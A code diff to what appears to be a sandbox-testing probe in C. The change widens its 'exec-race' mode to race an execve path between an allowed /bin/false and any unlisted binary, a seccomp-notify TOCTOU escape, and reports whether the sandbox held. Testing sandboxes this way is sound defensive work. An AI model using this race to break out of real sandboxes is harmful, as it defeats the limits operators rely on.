@@ -21,8 +21,9 @@
  *   priv exec-copy DIR...   copy this probe into each DIR and exec it there
  *   priv exec-tricks DIR    exec a copy in DIR under other spellings: /usr/bin/../.., /proc/self/cwd,
  *                           /proc/self/fd/N, /dev/fd/N, execveat(fd, "", AT_EMPTY_PATH), a symlink
- *   priv exec-race DIR      race a thread rewriting the execve path between an allowed binary
- *                           (/bin/false) and a copy in DIR (seccomp-notify TOCTOU, case #56)
+ *   priv exec-race DIR [TARGET TEXT]  race a thread rewriting the execve path between an allowed
+ *                           binary (/bin/false) and a copy in DIR, or the unlisted TARGET whose
+ *                           output contains TEXT (seccomp-notify TOCTOU, case #56)
  *   priv report             (exec target) print euid and CapEff */
 #include "probe.h"
 #include <pthread.h>
@@ -457,8 +458,11 @@ static char race_path[512];
 static const char *race_evil;
 static volatile int race_stop;
 
+static volatile int race_started;
+
 static void *race_flipper(void *arg) {
   (void)arg;
+  race_started = 1;
   while (!race_stop) {
     strcpy(race_path, race_evil);
     for (volatile int i = 0; i < 50; i++) {}
@@ -468,10 +472,16 @@ static void *race_flipper(void *arg) {
   return NULL;
 }
 
-static void mode_exec_race(const char *dir) {
+/* target: NULL for a fresh copy of this probe in dir (recognised by its "euid=" report), or an
+ * unlisted binary elsewhere recognised by the text expect in its output. */
+static void mode_exec_race(const char *dir, const char *target, const char *expect) {
   char evil[400];
-  snprintf(evil, sizeof evil, "%s/evil-copy", dir);
-  make_copy(evil);
+  if (target) snprintf(evil, sizeof evil, "%s", target);
+  else {
+    snprintf(evil, sizeof evil, "%s/evil-copy", dir);
+    make_copy(evil);
+    expect = "euid=";
+  }
   race_evil = evil;
   long end = now_ms() + 4000;
   int children = 0, allowed_runs = 0;
@@ -481,10 +491,12 @@ static void mode_exec_race(const char *dir) {
     pid_t c = fork();
     if (c == 0) {
       dup2(p[1], 1);
+      dup2(p[1], 2);
       close(p[0]);
       strcpy(race_path, "/bin/false");
       pthread_t t;
       if (pthread_create(&t, NULL, race_flipper, NULL)) _exit(125);
+      for (long w = now_ms() + 500; !race_started && now_ms() < w;) {}
       char *const argv[] = { "priv", "report", NULL };
       char *const envp[] = { NULL };
       for (int i = 0; i < 3000; i++) execve(race_path, argv, envp);
@@ -498,10 +510,10 @@ static void mode_exec_race(const char *dir) {
     close(p[0]);
     int st;
     waitpid(c, &st, 0);
-    if (strstr(out, "euid=")) { unlink(evil); escaped("won the execve path race: an unlisted binary ran (after %d tries)", children); }
+    if (strstr(out, expect)) { if (!target) unlink(evil); escaped("won the execve path race: the unlisted %s ran (after %d tries)", evil, children); }
     if (WIFEXITED(st) && WEXITSTATUS(st) == 1) allowed_runs++;
   }
-  unlink(evil);
+  if (!target) unlink(evil);
   note("%d racing children, %d ran only the allowed /bin/false, none ran the unlisted copy", children, allowed_runs);
   blocked();
 }
@@ -598,6 +610,6 @@ int main(int argc, char **argv) {
   if (!strcmp(m, "memfd-exec")) mode_memfd_exec();
   if (!strcmp(m, "exec-copy") && argc >= 3) mode_exec_copy(argc - 2, argv + 2);
   if (!strcmp(m, "exec-tricks") && argc >= 3) mode_exec_tricks(argv[2]);
-  if (!strcmp(m, "exec-race") && argc >= 3) mode_exec_race(argv[2]);
+  if (!strcmp(m, "exec-race") && argc >= 3) mode_exec_race(argv[2], argc >= 5 ? argv[3] : NULL, argc >= 5 ? argv[4] : NULL);
   probe_error("unknown mode or missing args: %s", m);
 }
